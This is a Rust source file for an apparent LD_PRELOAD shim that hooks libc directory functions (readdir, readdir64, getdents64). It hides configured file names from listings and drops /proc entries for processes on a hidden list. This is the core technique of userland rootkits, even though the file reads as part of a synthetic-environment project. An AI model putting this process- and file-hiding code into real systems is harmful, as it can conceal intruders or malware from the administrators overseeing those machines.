//! Directory enumeration interception: `opendir`/`closedir` (for stream
//! bookkeeping), `readdir`, `readdir64`, and raw `getdents64`.
//!
//! Entries whose name matches a hidden-name rule disappear from every
//! listing. When the process-list directory is enumerated, numeric
//! entries are additionally checked against the hidden-process list via
//! a direct, non-intercepted comm lookup.

use std::ffi::CStr;

use libc::{c_char, c_int, c_void, size_t, ssize_t};
use mirage_synth::dirent::{filter_dirents64, is_pid_name};
use mirage_synth::path::normalize;

use crate::reals;
use crate::state::{comm_of, path_str, ShimContext};

unsafe fn name_is_hidden(ctx: &ShimContext, name: &[u8], proc_dir: bool) -> bool {
    let rules = &ctx.synth.profile.rules;
    if let Ok(name_str) = std::str::from_utf8(name) {
        if rules.hidden_names.iter().any(|h| h == name_str) {
            return true;
        }
    }
    if proc_dir && is_pid_name(name) {
        if let Some(comm) = comm_of(name) {
            if let Ok(comm_str) = std::str::from_utf8(&comm) {
                return rules.hidden_processes.iter().any(|h| h == comm_str);
            }
        }
    }
    false
}

#[no_mangle]
pub unsafe extern "C" fn opendir(path: *const c_char) -> *mut libc::DIR {
    let dirp = reals::real_opendir(path);
    if !dirp.is_null() {
        if let (Some(ctx), Some(p)) = (ShimContext::get(), path_str(path)) {
            ctx.track_dir(dirp, normalize(p) == "/proc");
        }
    }
    dirp
}

#[no_mangle]
pub unsafe extern "C" fn closedir(dirp: *mut libc::DIR) -> c_int {
    if let Some(ctx) = ShimContext::get() {
        ctx.untrack_dir(dirp);
    }
    reals::real_closedir(dirp)
}

#[no_mangle]
pub unsafe extern "C" fn readdir(dirp: *mut libc::DIR) -> *mut libc::dirent {
    let Some(ctx) = ShimContext::get() else {
        return reals::real_readdir(dirp);
    };
    let proc_dir = ctx.dir_is_proc(dirp);
    loop {
        let entry = reals::real_readdir(dirp);
        if entry.is_null() {
            return entry;
        }
        let name = CStr::from_ptr((*entry).d_name.as_ptr()).to_bytes();
        if !name_is_hidden(ctx, name, proc_dir) {
            return entry;
        }
    }
}

#[no_mangle]
pub unsafe extern "C" fn readdir64(dirp: *mut libc::DIR) -> *mut libc::dirent64 {
    let Some(ctx) = ShimContext::get() else {
        return reals::real_readdir64(dirp);
    };
    let proc_dir = ctx.dir_is_proc(dirp);
    loop {
        let entry = reals::real_readdir64(dirp);
        if entry.is_null() {
            return entry;
        }
        let name = CStr::from_ptr((*entry).d_name.as_ptr()).to_bytes();
        if !name_is_hidden(ctx, name, proc_dir) {
            return entry;
        }
    }
}

/// Whether an open directory fd refers to `/proc`, resolved through the
/// real readlink on the fd's self entry.
unsafe fn fd_is_proc(fd: c_int) -> bool {
    use std::fmt::Write;
    let mut link = [0u8; 64];
    let mut writer = mirage_synth::stackbuf::StackWriter::new(&mut link);
    let _ = write!(writer, "/proc/self/fd/{fd}\0");
    let mut target = [0u8; 256];
    let n = reals::real_readlink(
        link.as_ptr() as *const c_char,
        target.as_mut_ptr() as *mut c_char,
        target.len(),
    );
    n > 0 && &target[..n as usize] == b"/proc"
}

#[no_mangle]
pub unsafe extern "C" fn getdents64(fd: c_int, dirp: *mut c_void, count: size_t) -> ssize_t {
    let n = reals::real_getdents64(fd, dirp, count);
    if n <= 0 || dirp.is_null() {
        return n;
    }
    let Some(ctx) = ShimContext::get() else {
        return n;
    };
    let proc_dir = fd_is_proc(fd);
    let buf = std::slice::from_raw_parts_mut(dirp as *mut u8, n as usize);
    filter_dirents64(buf, n as usize, |name| name_is_hidden(ctx, name, proc_dir)) as ssize_t
}
